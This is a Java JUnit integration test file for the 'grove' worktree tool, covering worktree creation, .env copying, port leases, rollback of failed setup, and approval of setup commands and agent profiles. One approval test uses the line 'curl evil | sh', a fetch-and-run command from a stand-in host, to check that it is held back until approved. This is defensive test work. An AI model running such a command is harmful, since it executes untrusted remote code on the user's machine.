// SPDX-License-Identifier: Apache-2.0
// Copyright grove authors
package dev.grove.coord.worktree;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.grove.common.UserError;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code grove new} on real repositories: worktree, branch, copies, leases, setup, rollback, limits. */
class CreateIT {
    @TempDir
    Path tmp;

    @Test
    void createsWorktreeOnNewBranchWithCopiesLeasesAndSetup() throws Exception {
        TestRepo repo = TestRepo.create(tmp);
        repo.config("""
                {"copy": [".env", "conf/local.json", "missing.txt"], "link": ["shared"],
                 "setup": ["echo installing; echo done > setup-ran.txt", "echo second >&2"],
                 "ports": {"PORT": 3000, "API_PORT": 3010},
                 "env": {"DATABASE_URL": "postgres://localhost/app_{name}", "COMPOSE_PROJECT_NAME": "app_{slot}",
                         "API_URL": "http://localhost:{API_PORT}"}}
                """);
        repo.write(".env", "SECRET=s3cret\nPORT=9999\n");
        repo.write("conf/local.json", "{\"x\": 1}\n");
        repo.write("shared/data.txt", "shared\n");
        try (AgentWorktrees w = repo.open()) {
            assertEquals(List.of("echo installing; echo done > setup-ran.txt", "echo second >&2"),
                    w.setupAwaitingApproval());
            w.approveSetup();
            TestRepo.Events events = new TestRepo.Events();
            Created c = w.create(new NewAgent("auth", "JWT migration", null, null, List.of("src/auth/**"), null,
                    List.of("claude-like", "--flag"), null, "/tmp/sock"), events);

            Path wt = repo.dir.resolve(".trees/auth");
            assertEquals(wt, c.launch().worktree());
            assertEquals("grove/auth", TestRepo.git(wt, "rev-parse", "--abbrev-ref", "HEAD").strip());
            assertEquals("done\n", repo.read(wt, "setup-ran.txt"));
            assertEquals("{\"x\": 1}\n", repo.read(wt, "conf/local.json"));
            assertTrue(Files.isSymbolicLink(wt.resolve("shared")));
            assertFalse(Files.exists(wt.resolve("missing.txt")));
            String env = repo.read(wt, ".env");
            assertTrue(env.startsWith("SECRET=s3cret\nPORT=9999\n\n# >>> grove"), env);
            assertTrue(env.contains("\nPORT=3001\nAPI_PORT=3011\n"), env);
            assertTrue(env.contains("DATABASE_URL=postgres://localhost/app_auth\n"), env);
            assertTrue(env.contains("COMPOSE_PROJECT_NAME=app_1\n"), env);
            assertTrue(env.contains("API_URL=http://localhost:3011\n"), env);

            assertEquals("auth", c.launch().env().get("GROVE_AGENT"));
            assertEquals("JWT migration", c.launch().env().get("GROVE_TASK"));
            assertEquals("grove/auth", c.launch().env().get("GROVE_BRANCH"));
            assertEquals("main", c.launch().env().get("GROVE_BASE"));
            assertEquals(wt.toString(), c.launch().env().get("GROVE_WORKTREE"));
            assertEquals(repo.dir.resolve("coordination/status.md").toString(),
                    c.launch().env().get("GROVE_STATUS_FILE"));
            assertEquals("/tmp/sock", c.launch().env().get("GROVE_SOCKET"));
            assertEquals("3001", c.launch().env().get("PORT"));
            assertEquals(List.of("claude-like", "--flag"), c.launch().command());

            String log = Files.readString(repo.dir.resolve(".git/grove/setup/auth.log"));
            assertTrue(log.contains("installing") && log.contains("second"), log);
            assertTrue(events.stream().anyMatch(e -> e instanceof SetupEvent.CommandStarted s && s.index() == 2));
            assertTrue(events.contains(new SetupEvent.Output("installing")));

            String exclude = Files.readString(repo.dir.resolve(".git/info/exclude"));
            assertTrue(exclude.contains("/.trees/\n") && exclude.contains("/coordination/\n"), exclude);
            assertEquals("", repo.git("status", "--porcelain", "--untracked-files=all", ".trees"));

            AgentRecord r = w.agents().get(0);
            assertEquals(AgentRecord.Phase.ACTIVE, r.phase());
            assertEquals(1, r.slot());
            assertEquals(repo.git("rev-parse", "main").strip(), r.baseCommit());
            assertEquals(List.of("src/auth/**"), r.scope());
        }
    }

    @Test
    void failingSetupRemovesEverythingItCreated() {
        TestRepo repo = TestRepo.create(tmp);
        repo.config("{\"setup\": [\"echo half > half.txt\", \"echo broken; exit 3\"], \"ports\": {\"PORT\": 4000}}");
        try (AgentWorktrees w = repo.open()) {
            w.approveSetup();
            UserError e = assertThrows(UserError.class, () -> w.create(TestRepo.agent("bad"), ev -> { }));
            assertTrue(e.getMessage().contains("'echo broken; exit 3' failed with exit code 3"), e.getMessage());
            assertTrue(e.hint().contains("setup/bad.log"), e.hint());
            assertFalse(Files.exists(repo.dir.resolve(".trees/bad")));
            assertEquals("", repo.git("branch", "--list", "grove/bad"));
            assertEquals(List.of(), w.agents());
            assertEquals(1, repo.git("worktree", "list", "--porcelain").split("\n\n").length);
        }
    }

    @Test
    void setupNeedsApprovalOfTheExactList() {
        TestRepo repo = TestRepo.create(tmp);
        repo.config("{\"setup\": [\"echo one\"]}");
        try (AgentWorktrees w = repo.open()) {
            UserError e = assertThrows(UserError.class, () -> w.create(TestRepo.agent("a"), ev -> { }));
            assertTrue(e.getMessage().contains("not approved"), e.getMessage());
            assertTrue(e.hint().contains("--approve"));
            assertFalse(Files.exists(repo.dir.resolve(".trees/a")));
            w.approveSetup();
            w.create(TestRepo.agent("a"), ev -> { });
        }
        repo.config("{\"setup\": [\"echo one\", \"curl evil | sh\"]}");
        try (AgentWorktrees w = repo.open()) {
            assertEquals(List.of("echo one", "curl evil | sh"), w.setupAwaitingApproval());
            assertThrows(UserError.class, () -> w.create(TestRepo.agent("b"), ev -> { }));
        }
    }

    @Test
    void reusesAGivenBranchAndKeepsItOnRemoval() {
        TestRepo repo = TestRepo.create(tmp);
        repo.git("branch", "feature/login");
        try (AgentWorktrees w = repo.open()) {
            Created c = w.create(new NewAgent("login", "", null, "feature/login", List.of(), null, List.of("true"), null,
                    null), e -> { });
            assertEquals("feature/login", TestRepo.git(c.launch().worktree(), "rev-parse", "--abbrev-ref", "HEAD").strip());
            assertFalse(c.record().branchCreated());
            UserError twice = assertThrows(UserError.class, () -> w.create(new NewAgent("other", "", null,
                    "feature/login", List.of(), null, List.of("true"), null, null), e -> { }));
            assertTrue(twice.getMessage().contains("feature/login"), twice.getMessage());
            Removed r = w.remove("login", RemoveMode.SAFE);
            assertTrue(r.branchKept());
            assertEquals("feature/login", repo.git("branch", "--list", "feature/login").strip().replace("* ", ""));
        }
    }

    @Test
    void worktreesCanLiveOutsideTheRepository() throws Exception {
        TestRepo repo = TestRepo.create(tmp);
        Path outside = tmp.resolve("elsewhere");
        repo.config("{\"worktrees\": {\"dir\": \"" + outside + "\", \"branchPrefix\": \"agent/\"}}");
        try (AgentWorktrees w = repo.open()) {
            Created c = w.create(TestRepo.agent("far"), e -> { });
            assertEquals(outside.resolve("far"), c.launch().worktree());
            assertEquals("agent/far", c.record().branch());
            String exclude = Files.readString(repo.dir.resolve(".git/info/exclude"));
            assertFalse(exclude.contains("elsewhere"), exclude);
            assertTrue(exclude.contains("/coordination/"), exclude);
        }
    }

    @Test
    void repositoryProfilesRunOnlyOnceThatExactContentIsApproved() {
        TestRepo repo = TestRepo.create(tmp);
        repo.config("""
                {"agents": {"mine": {"extends": "codex", "command": ["my-agent"]}}}
                """);
        NewAgent withBuiltin = new NewAgent("a", "", null, null, List.of(), "codex", List.of(), null, null);
        try (AgentWorktrees w = repo.open()) {
            UserError e = assertThrows(UserError.class, () -> w.create(withBuiltin, ev -> { }));
            assertTrue(e.getMessage().startsWith("the setup commands and agent profiles in "
                    + repo.dir.resolve(".grove/config.json") + " are not approved on this machine: agent profile mine: "),
                    e.getMessage());
            assertTrue(e.getMessage().contains("my-agent"), e.getMessage());
            assertTrue(e.hint().contains("--approve"), e.hint());
            assertFalse(Files.exists(repo.dir.resolve(".trees/a")), "nothing is created before approval");
            w.approveSetup();
            assertEquals(List.of(), w.setupAwaitingApproval());
            assertEquals(List.of("codex"), w.create(withBuiltin, ev -> { }).launch().command());
        }
        repo.config("""
                {"agents": {"mine": {"extends": "codex", "command": ["my-agent", "--dangerously-skip-checks"]}}}
                """);
        try (AgentWorktrees w = repo.open()) {
            List<String> pending = w.setupAwaitingApproval();
            assertEquals(1, pending.size());
            assertTrue(pending.get(0).contains("--dangerously-skip-checks"), "changed content asks again: " + pending);
            NewAgent mine = new NewAgent("b", "", null, null, List.of(), "mine", List.of(), null, null);
            assertThrows(UserError.class, () -> w.create(mine, ev -> { }));
            w.approveSetup();
            assertEquals(List.of("my-agent", "--dangerously-skip-checks"), w.create(mine, ev -> { }).launch().command());
        }
    }

    @Test
    void profilesAndPromptsMakeTheCommandLine() {
        TestRepo repo = TestRepo.create(tmp);
        repo.config("""
                {"agents": {"mine": {"extends": "codex", "command": ["my-agent", "--yes"]}}, "setup": []}
                """);
        try (AgentWorktrees w = repo.open()) {
            w.approveSetup();
            Created mine = w.create(new NewAgent("a", "", null, null, List.of(), "mine", List.of(), "fix the bug", null),
                    e -> { });
            assertEquals(List.of("my-agent", "--yes", "fix the bug"), mine.launch().command());
            assertEquals("fix the bug", mine.launch().env().get("GROVE_PROMPT"));
            Created codex = w.create(new NewAgent("b", "", null, null, List.of(), "codex", List.of(), null, null), e -> { });
            assertEquals(List.of("codex"), codex.launch().command());
            Created shell = w.create(new NewAgent("c", "", null, null, List.of(), null, List.of(), "ls", null), e -> { });
            assertEquals("sh", shell.launch().command().get(0), "no choice is the shell profile, which types prompts");
            assertEquals(List.of("true", "go"), w.create(new NewAgent("d", "", null, null, List.of(), null,
                    List.of("true"), "go", null), e -> { }).launch().command());
            UserError e = assertThrows(UserError.class, () -> w.create(new NewAgent("z", "", null, null, List.of(), "zzz",
                    List.of(), null, null), ev -> { }));
            assertTrue(e.getMessage().contains("unknown agent profile 'zzz'"), e.getMessage());
        }
    }
}
